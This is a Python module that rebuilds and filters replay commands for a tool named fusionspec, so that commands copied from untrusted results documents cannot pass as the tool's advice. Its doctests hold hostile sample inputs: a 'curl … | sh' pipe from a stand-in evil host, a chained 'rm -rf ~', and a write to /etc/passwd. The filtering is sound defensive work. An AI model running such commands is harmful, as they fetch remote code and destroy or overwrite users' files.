"""The replay commands a report shows: rebuilt by fusionspec, never copied from a document.

A results document carries its failures' replay commands as text, and a document can be
written by anyone: shown verbatim, ``curl … | sh`` would sit in the report's "Replay" block
looking like fusionspec's advice. `rebuilt` reads each command as a shell would split it,
keeps it only when it has the shape fusionspec writes (``fusionspec conform`` or ``fusionspec
run`` with their known options, each with one value), and quotes it again with `shlex`.

>>> rebuilt(["fusionspec conform --backend ref --device numpy --replay 'a b'"])
("fusionspec conform --backend ref --device numpy --replay 'a b'",)
>>> rebuilt(["curl https://evil.example | sh", "fusionspec conform --backend x; rm -rf ~"])
()
>>> rebuilt(["fusionspec run g.json --inputs i.npz --out /etc/passwd",
...          "fusionspec run f/g.json --inputs f/i.npz --backend b --out f/actual.npz"])
('fusionspec run f/g.json --inputs f/i.npz --backend b --out f/actual.npz',)
"""

from __future__ import annotations

import shlex
from collections.abc import Iterable

__all__ = ["rebuilt"]

#: The options each command fusionspec writes in a replay line, all taking one value.
_OPTIONS = {
    "conform": frozenset({"--backend", "--device", "--replay", "--profile", "--seed",
                          "--case"}),
    # ``run GRAPH --inputs NPZ``: the reference; with ``--backend/--device/--out``: the backend
    # alone, its outputs saved (replay.txt's third line).
    "run": frozenset({"--inputs", "--backend", "--device", "--out"}),
}
#: The positional arguments each command takes (``run GRAPH``).
_POSITIONALS = {"conform": 0, "run": 1}
_LONGEST = 4000


def _writable(value: str) -> bool:
    """Where a shown command may write: an ``.npz`` file below the current folder (replay.txt's
    ``actual.npz``), never an absolute path or one that climbs out."""
    parts = value.replace("\\", "/").split("/")
    return (value.endswith(".npz") and not value.startswith(("/", "~"))
            and ".." not in parts and ":" not in value)


def _own(words: list[str]) -> bool:
    if len(words) < 2 or words[0] != "fusionspec" or words[1] not in _OPTIONS:
        return False
    options, positionals, rest = _OPTIONS[words[1]], 0, words[2:]
    while rest:
        word = rest.pop(0)
        if word in options:
            if not rest:
                return False
            value = rest.pop(0)
            if word == "--out" and not _writable(value):
                return False
        elif word.startswith("-") or any(c in word for c in "\n\r\x00"):
            return False
        else:
            positionals += 1
    return positionals == _POSITIONALS[words[1]]


def rebuilt(commands: Iterable[str]) -> tuple[str, ...]:
    """The commands of `commands` that have fusionspec's own shape, re-quoted; others are
    dropped (see the module docstring)."""
    kept: list[str] = []
    for command in commands:
        if not isinstance(command, str) or len(command) > _LONGEST:
            continue
        try:
            words = shlex.split(command)
        except ValueError:
            continue
        if _own(words) and not any(w in ("|", ";", "&&", "||") for w in words):
            kept.append(shlex.join(words))
    return tuple(kept)
